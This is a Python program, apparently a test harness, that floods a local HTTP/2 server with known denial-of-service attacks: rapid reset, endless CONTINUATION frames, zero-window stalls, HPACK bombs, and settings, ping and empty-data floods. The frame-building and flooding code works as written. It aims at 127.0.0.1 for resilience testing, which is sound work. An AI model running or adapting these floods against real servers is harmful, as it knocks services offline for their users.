"""Clients that flood a server by HTTP/2 without TLS. As a program: FLOOD PORT CONNECTIONS SECONDS."""

import json
import selectors
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
# GET http://localhost/, by HPACK's static table: all of it, and with the large file for a path.
REQUEST = b"\x82\x86\x84\x41\x09localhost"
LARGE = b"\x82\x86\x04\x06/large\x41\x09localhost"
# How many bytes are put together at once.
PIECE = 64 * 1024


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def batch(make, at_least=PIECE):
    """Pieces of some frames each, without end: `make` gives the frames of the streams 1, 3, 5, …"""
    stream = 1
    while stream < 2**31 - 2:
        pieces, size = [], 0
        while size < at_least and stream < 2**31 - 2:
            pieces.append(make(stream))
            size += len(pieces[-1])
            stream += 2
        yield b"".join(pieces)


def window_of_nothing():
    """Asks for a hundred large answers, takes none of them, and stays."""
    yield frame(SETTINGS, 0, 0, bytes([0, 4, 0, 0, 0, 0]))
    yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, LARGE) for i in range(100))


def endless_header():
    yield frame(HEADERS, END_STREAM, 1, REQUEST)
    field = b"\x00\x04x-no" + b"\x7f\xa1\x1e" + b"a" * 4000
    while True:
        yield frame(CONTINUATION, 0, 1, field) * 16


def bomb():
    """A field of 3,900 bytes that is remembered, and then meant again with a byte each: 16,000 times in a request."""
    first = b"\x40\x01x" + b"\x7f\xbd\x1d" + b"b" * 3900
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, REQUEST + first)
    yield from batch(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream + 2, REQUEST + b"\xbe" * 16000))


FLOODS = {
    "h2 settings": lambda: batch(lambda _: frame(SETTINGS, 0, 0)),
    "h2 pings": lambda: batch(lambda _: frame(PING, 0, 0, b"12345678")),
    "h2 rapid reset": lambda: batch(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST)
                                    + frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")),
    "h2 continuation": endless_header,
    "h2 empty data": lambda: iter([frame(HEADERS, END_HEADERS, 1, b"\x83" + REQUEST[1:])] + [frame(DATA, 0, 1) * 8000] * 100_000),
    "h2 window of 0": window_of_nothing,
    "h2 hpack bomb": bomb,
}


class Attacker:
    """One connection after the other, each as fast as it can."""

    def __init__(self, flood, port, ledger):
        self.flood, self.port, self.ledger = flood, port, ledger
        self.connection, self.pieces, self.rest = None, None, b""

    def open(self, selector):
        self.connection = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        self.connection.setblocking(False)
        self.pieces, self.rest = FLOODS[self.flood](), PREFACE + frame(SETTINGS, 0, 0)
        self.ledger["opened"] += 1
        selector.register(self.connection, selectors.EVENT_READ | selectors.EVENT_WRITE, self)

    def ready(self, selector, events):
        try:
            if events & selectors.EVENT_READ and not self.connection.recv(1 << 20):
                raise ConnectionResetError
            if events & selectors.EVENT_WRITE:
                self.send(selector)
        except BlockingIOError:
            pass
        except OSError:
            self.ledger["closed"] += 1
            selector.unregister(self.connection)
            self.connection.close()
            self.open(selector)

    def send(self, selector):
        self.rest = self.rest or next(self.pieces, b"")
        if not self.rest:
            # It has said what it has to say, and stays.
            selector.modify(self.connection, selectors.EVENT_READ, self)
            return
        sent = self.connection.send(self.rest)
        self.ledger["bytes"] += sent
        self.rest = self.rest[sent:]


def main(flood, port, connections, seconds):
    ledger = {"opened": 0, "closed": 0, "bytes": 0}
    selector = selectors.DefaultSelector()
    for _ in range(connections):
        Attacker(flood, port, ledger).open(selector)
    end = time.monotonic() + seconds
    said = 0
    while time.monotonic() < end:
        for key, events in selector.select(timeout=0.1):
            key.data.ready(selector, events)
        if time.monotonic() - said > 0.5:
            said = time.monotonic()
            print(json.dumps(ledger), flush=True)
    print(json.dumps(ledger), flush=True)


def told(process):
    """What a running program has said last."""
    with open(process.log, errors="replace") as log:
        lines = [line for line in log.read().splitlines() if line.startswith("{")]
    if not lines:
        return "nothing sent"
    last = json.loads(lines[-1])
    return f"{last['bytes'] / 2**20:.1f} MiB sent, {last['closed']} connections closed"


if __name__ == "__main__":
    main(sys.argv[1], *map(int, sys.argv[2:]))
